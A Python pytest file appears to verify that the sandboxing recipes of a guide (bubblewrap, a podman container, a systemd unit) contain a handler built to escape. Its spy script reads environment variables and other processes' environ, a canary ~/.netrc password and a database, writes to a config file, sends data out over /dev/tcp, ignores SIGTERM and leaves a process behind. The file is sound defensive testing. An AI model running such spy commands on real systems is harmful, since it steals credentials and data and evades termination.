"""The commands of docs/guides/sandbox-a-handler.md, with a handler that looks for a way out.

The actor: a hostile handler. The attack: it reads the environment, other processes, the home and
the backlog, writes to dibs.toml, connects to a server of the attacker's, leaves a process behind
and ignores SIGTERM. The wall: what the page shows, taken out of the page word for word. A tool that
this machine lacks skips its tests by name; `.ci/run` installs those that a package can bring.
"""

import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.acceptance.harness import until
from tests.architecture.pages import DOCS, blocks

from .conftest import PROGRAM, SECRETS, Ear, Victim
from .git_victims import git, remote_repository

pytestmark = pytest.mark.long

PAGE = DOCS / "guides" / "sandbox-a-handler.md"
_LEFT = "31536000"
_SPY = """#!/bin/sh
echo "INPUT $(cat)"
env
cat /proc/[0-9]*/environ | tr '\\0' '\\n'
cat HOME/.netrc
head -c 15 .dibs/backlog.db
head -c 15 FOLDER/.dibs/backlog.db
echo '# spied' >> dibs.toml
echo '# spied' >> FOLDER/dibs.toml
bash -c 'echo NETWORK > /dev/tcp/127.0.0.1/PORT' && echo NETWORK-REACHED
trap '' TERM
setsid sleep LEFT < /dev/null > /dev/null 2>&1 &
echo '{"next": "review", "note": "from inside"}' > "$DIBS_RESULT"
"""
_SEEN_OUTSIDE = ("CANARYnetrc", "SQLite format", "NETWORK-REACHED")
_REST = '[[stage]]\nname = "review"\n'


def _block(name: str) -> str:
    (found,) = [block.text for block in blocks(PAGE) if name in block.words]
    return found


def _needs(*tools: str) -> None:
    for tool in tools:
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed")


def _script(path: Path, text: str) -> None:
    path.write_text(text)
    path.chmod(0o755)


class Cell:
    """A backlog with one issue, whose handler spies; and how the program is entered."""

    def __init__(self, victim: Victim, ear: Ear) -> None:
        self.victim, self.ear, self.folder = victim, ear, victim.folder
        self.inside: tuple[str, ...] = ()
        self.mark = f"{_LEFT}.{os.getpid()}{ear.port}"
        (victim.home / ".netrc").write_text("machine git.acme.example password CANARYnetrc\n")
        (victim.home / ".netrc").chmod(0o600)
        self.handler = self.folder / "implement.sh"
        self.handle(_SPY)

    def _filled(self, text: str) -> str:
        for word, value in (
            ("HOME", str(self.victim.home)),
            ("FOLDER", str(self.folder)),
            ("PORT", str(self.ear.port)),
            ("LEFT", self.mark),
        ):
            text = re.sub(rf"(?<![$A-Z_]){word}\b", value, text)
        return text

    def handle(self, text: str) -> None:
        """Make this script the handler."""
        _script(self.handler, self._filled(text))

    def worked(self, stage: str) -> str:
        """Work one issue in the stage of these settings; what the handler wrote."""
        self.victim.configure(f'preset = "none"\n{stage}next = "review"\n{_REST}')
        self.victim.dibs("init")
        self.victim.dibs("add", "an issue")
        ran = subprocess.run(
            [*self.inside, PROGRAM, "-C", str(self.folder), "work", "--once"],
            env=self.victim.env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=100,
            check=False,
        )
        told = ran.stdout + ran.stderr
        for log in (self.folder / ".dibs" / "runs").glob("*/output.log"):
            told += log.read_text(errors="replace")
        return told

    @property
    def left(self) -> bool:
        """Whether a process that the handler left behind is still there."""
        for place in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if self.mark.encode() in place.read_bytes():
                    return True
            except OSError:
                continue
        return False

    def end_what_is_left(self) -> None:
        for place in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if self.mark.encode() in place.read_bytes():
                    os.kill(int(place.parent.name), 9)
            except OSError:
                continue

    def held(self, told: str) -> None:
        assert 'INPUT {"issue": "#1"' in told, told
        assert "#1 advanced to review" in told, told
        shown = self.victim.dibs("show", "1").stdout
        assert "from inside" in shown, "the result came out"
        for secret in (*SECRETS.values(), *_SEEN_OUTSIDE):
            assert secret not in told, (secret, told)
        assert self.ear.heard == b""
        assert "spied" not in (self.folder / "dibs.toml").read_text()
        until(lambda: not self.left, "the end of what the handler left behind")


@pytest.fixture
def cell(victim: Victim, ear: Ear) -> Iterator[Cell]:
    made = Cell(victim, ear)
    yield made
    made.end_what_is_left()


_ENDLESS = "#!/bin/sh\ntrap '' TERM\necho BEGAN\nsleep LEFT\nsleep LEFT\n"


def _is_stopped(cell: Cell, stage: str) -> None:
    """A handler that ignores SIGTERM is over soon after its time limit."""
    head, _, rest = stage.partition("\n")
    cell.handle(_ENDLESS)
    told = cell.worked(f'{head}\ntimeout = "3s"\nattempts = 1\n{rest}')
    assert "BEGAN" in told, told
    until(lambda: not cell.left, "the end of the handler")


def test_without_a_wall_the_handler_finds_all_of_it(cell: Cell):
    """Control: the same spy as the worker's own user."""
    told = cell.worked('[[stage]]\nname = "ready"\nrun = "./implement.sh"\n')
    for found in _SEEN_OUTSIDE:
        assert found in told, (found, told)
    assert b"NETWORK" in cell.ear.heard
    assert "spied" in (cell.folder / "dibs.toml").read_text()


# bubblewrap


@pytest.fixture
def bubblewrap() -> str:
    _needs("bwrap")
    tried = subprocess.run(
        ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "true"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    if tried.returncode:
        pytest.skip(f"bwrap cannot run here: {tried.stderr.strip()}")
    return _block("bubblewrap")


def test_bubblewrap_holds(cell: Cell, bubblewrap: str):
    cell.held(cell.worked(bubblewrap))


def test_bubblewrap_ends_with_the_run(cell: Cell, bubblewrap: str):
    _is_stopped(cell, bubblewrap)


_GIT_INSIDE = """#!/bin/sh
cd /work && git status --short && git log --oneline && echo '{"next": "review"}' > "$DIBS_RESULT"
"""


def _clone(cell: Cell) -> Path:
    """A clone of a repository with a handler that uses git."""
    remote = remote_repository(cell.folder.parent / "shop.git", {"implement.sh": _GIT_INSIDE})
    git(cell.folder, "clone", "--quiet", str(remote), str(cell.folder / "shop"))
    return cell.folder / "shop"


def _covering(line: str, command: str) -> str:
    """The command with this line in the place of the line that covers `.dibs`."""
    changed, count = re.subn(r"(?m)^.*/work/\.dibs.*$", lambda _: f"  {line}", command)
    assert count == 1
    return changed


@pytest.mark.parametrize("bound", [True, False], ids=["with objects", "control: without"])
def test_git_works_in_a_worktree_in_bubblewrap(cell: Cell, bubblewrap: str, bound: bool):
    clone = _clone(cell)
    objects = _block("worktree-in-bubblewrap").strip().replace("/srv/shop", str(clone))
    stage = _covering(f"{objects} \\" if bound else "\\", bubblewrap)
    stage = stage.replace("./implement.sh", "sh implement.sh")
    told = cell.worked(stage.replace("run  =", 'worktree = "shop"\nrun  ='))
    assert ("#1 advanced to review" in told) is bound, told
    assert ("unable to normalize alternate object path" in told) is not bound, told
    assert "?? dibs.toml" not in told


# A container

_PROGRAMS = ("sh", "bash", "cat", "ls", "env", "head", "tr", "setsid", "sleep", "git")
_CONTAINERS = """
[containers]
cgroups = "disabled"
default_ulimits = ["nofile=1024:1024", "nproc=1024:1024"]
[engine]
cgroup_manager = "cgroupfs"
events_logger = "none"
"""
# crun refuses a machine with both kinds of cgroups, even if it is to use none.
_ONE_KIND = (
    "mount --make-rprivate / && umount -R /sys/fs/cgroup &&"
    ' mount -t cgroup2 cgroup2 /sys/fs/cgroup && exec "$@"'
)


def _image(folder: Path) -> Path:
    """The programs that the spy uses, with their libraries, as an archive."""
    files = set()
    for program in _PROGRAMS:
        path = shutil.which(program, path="/bin")
        assert path is not None, program
        files.add(path)
        linked = subprocess.run(["ldd", path], capture_output=True, text=True, check=True).stdout
        files |= set(re.findall(r"(/\S+) \(0x", linked))
    archive = folder / "image.tar"
    subprocess.run(["tar", "-chPf", str(archive), *sorted(files)], check=True, timeout=60)
    return archive


@pytest.fixture
def container(cell: Cell, tmp_path: Path) -> Iterator[str]:
    _needs("podman", "unshare", "ldd")
    if os.geteuid() != 0:
        pytest.skip("podman is tried as root")
    storage = f'driver = "vfs"\ngraphroot = "{tmp_path}/g"\nrunroot = "{tmp_path}/r"\n'
    (tmp_path / "storage.conf").write_text(f"[storage]\n{storage}")
    (tmp_path / "containers.conf").write_text(_CONTAINERS)
    cell.victim.env |= {
        "CONTAINERS_CONF": str(tmp_path / "containers.conf"),
        "CONTAINERS_STORAGE_CONF": str(tmp_path / "storage.conf"),
    }
    cell.inside = ("unshare", "--mount", "--cgroup", "sh", "-c", _ONE_KIND, "sh")
    for words in (
        ("podman", "import", str(_image(tmp_path)), "localhost/agent"),
        ("podman", "run", "--rm", "--network=none", "localhost/agent", "ls"),
    ):
        tried = subprocess.run(
            [*cell.inside, *words],
            env=cell.victim.env,
            capture_output=True,
            text=True,
            timeout=100,
            check=False,
        )
        if tried.returncode:
            pytest.skip(f"podman cannot run here: {tried.stderr.strip()}")
    script = _block("in-a-container")
    # without cgroups there are no limits to set
    _script(cell.folder / "in-a-container", script.replace(" --pids-limit=500 --memory=8g", ""))
    passed = "pass_env = ['CONTAINERS_CONF', 'CONTAINERS_STORAGE_CONF']\n"
    yield f'[[stage]]\nname = "ready"\n{passed}run = "./in-a-container ./implement.sh"\n'
    subprocess.run(
        [*cell.inside, "podman", "rm", "--all", "--force"],
        env=cell.victim.env,
        capture_output=True,
        timeout=100,
        check=False,
    )


@pytest.mark.timeout(300)
def test_a_container_holds(cell: Cell, container: str):
    cell.held(cell.worked(container))


@pytest.mark.timeout(300)
def test_a_container_ends_with_the_run(cell: Cell, container: str):
    _is_stopped(cell, container)


@pytest.mark.timeout(300)
@pytest.mark.parametrize("bound", [True, False], ids=["with objects", "control: without"])
def test_git_works_in_a_worktree_in_a_container(cell: Cell, container: str, bound: bool):
    clone = _clone(cell)
    script = cell.folder / "in-a-container"
    objects = _block("worktree-in-a-container").strip().replace("/srv/shop", str(clone))
    script.write_text(_covering(f"{objects} \\" if bound else "\\", script.read_text()))
    run = f'worktree = "shop"\nrun = "{script} sh implement.sh"\n'
    told = cell.worked(re.sub("run = .*\n", run, container))
    assert ("#1 advanced to review" in told) is bound, told
    assert ("unable to normalize alternate object path" in told) is not bound, told
    assert "?? dibs.toml" not in told


# systemd


def test_the_unit_of_the_worker_is_one_that_systemd_takes(tmp_path: Path):
    _needs("systemd-analyze")
    unit = tmp_path / "dibs-worker.service"
    unit.write_text(_block("dibs-worker.service").replace("/opt/dibs/bin/dibs", PROGRAM))
    checked = _analyzed("verify", "--man=no", str(unit))
    assert checked.returncode == 0, checked.stderr
    assert unit.name not in checked.stderr, checked.stderr
    judged = _analyzed("security", "--offline=true", "--no-pager", "--threshold=40", str(unit))
    assert judged.returncode == 0, judged.stdout


def test_a_unit_that_sets_nothing_is_judged_badly(tmp_path: Path):
    """Control: the judge does judge."""
    _needs("systemd-analyze")
    unit = tmp_path / "bare.service"
    unit.write_text(f"[Service]\nExecStart={PROGRAM} work\n")
    judged = _analyzed("security", "--offline=true", "--no-pager", "--threshold=40", str(unit))
    assert judged.returncode != 0


def _analyzed(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["systemd-analyze", *words], capture_output=True, text=True, timeout=60, check=False
    )


_SYSTEMD = Path("/lib/systemd/systemd")
_UNITS = {
    "only.target": "[Unit]\nDefaultDependencies=no\nWants=dbus.service\nAfter=dbus.service\n",
    "dbus.socket": "[Unit]\nDefaultDependencies=no\n[Socket]\n"
    "ListenStream=/run/dbus/system_bus_socket\n",
    "dbus.service": "[Unit]\nDefaultDependencies=no\nRequires=dbus.socket\n[Service]\n"
    "Type=notify\nExecStart=/usr/bin/dbus-daemon --system --address=systemd: --nofork"
    " --nopidfile --systemd-activation --syslog-only\n",
    **{f"{name}.target": "[Unit]\nDefaultDependencies=no\n" for name in ("sysinit", "shutdown")},
    "basic.target": "[Unit]\nDefaultDependencies=no\n",
}
_BOOT = """
mount --make-rprivate / && mount -t tmpfs tmpfs /run && mount -t proc proc /proc &&
mount -t tmpfs tmpfs /opt && mkdir /opt/agent && mount --bind AGENT /opt/agent &&
mkdir -p /run/systemd/system /run/lock && cp UNITS/* /run/systemd/system/ &&
mount --make-rshared / &&
exec env -i container=dibs PATH=/usr/sbin:/usr/bin:/sbin:/bin \
    SYSTEMD_UNIT_PATH=/run/systemd/system \
    SYSTEMD --system --unit=only.target --log-target=null --show-status=no
"""


@pytest.fixture
def unit(cell: Cell, tmp_path: Path) -> Iterator[str]:
    """A systemd of its own, in namespaces of its own: it starts a bus and nothing else."""
    _needs("systemd-run", "unshare", "nsenter", "dbus-daemon", "setsid")
    if os.geteuid() != 0 or not _SYSTEMD.exists():
        pytest.skip("systemd is tried as root, and must be installed")
    units = tmp_path / "units"
    units.mkdir()
    for name, text in _UNITS.items():
        (units / name).write_text(text)
    agent = tmp_path / "agent"
    agent.mkdir()
    cell.handler = agent / "implement"
    cell.handle(_SPY)
    boot = _BOOT.replace("UNITS", str(units)).replace("AGENT", str(agent))
    boot = boot.replace("SYSTEMD ", f"{_SYSTEMD} ")
    spaces = ("--mount", "--pid", "--fork", "--cgroup", "--ipc", "--uts", "--kill-child")
    with (tmp_path / "boot.log").open("wb") as log:
        outer = subprocess.Popen(
            ["unshare", *spaces, "sh", "-c", boot], stdout=log, stderr=log, start_new_session=True
        )
    try:
        children = Path(f"/proc/{outer.pid}/task/{outer.pid}/children")
        until(lambda: outer.poll() is not None or children.read_text().split(), "systemd's start")
        if outer.poll() is not None:
            pytest.skip(f"systemd cannot run here: {(tmp_path / 'boot.log').read_text()}")
        first = children.read_text().split()[0]
        cell.inside = ("nsenter", "--target", first, "--mount", "--pid", "--ipc", "--uts")
        try:
            until(lambda: _answers(cell), "a systemd that answers", within_s=20)
        except AssertionError:
            pytest.skip("systemd starts here, and does not answer")
        _script(cell.folder / "in-a-unit", _block("in-a-unit").replace("=agent", "=nobody"))
        yield '[[stage]]\nname = "ready"\nrun = "./in-a-unit /opt/agent/implement"\n'
    finally:
        outer.kill()
        outer.wait(30)


def _answers(cell: Cell) -> bool:
    words = ("systemd-run", "--quiet", "--pipe", "--wait", "--collect", "true")
    tried = subprocess.run([*cell.inside, *words], capture_output=True, timeout=30, check=False)
    return tried.returncode == 0


@pytest.mark.timeout(300)
def test_a_unit_for_each_run_holds(cell: Cell, unit: str):
    cell.held(cell.worked(unit))


@pytest.mark.timeout(300)
def test_a_unit_for_each_run_ends_with_the_run(cell: Cell, unit: str):
    _is_stopped(cell, unit)
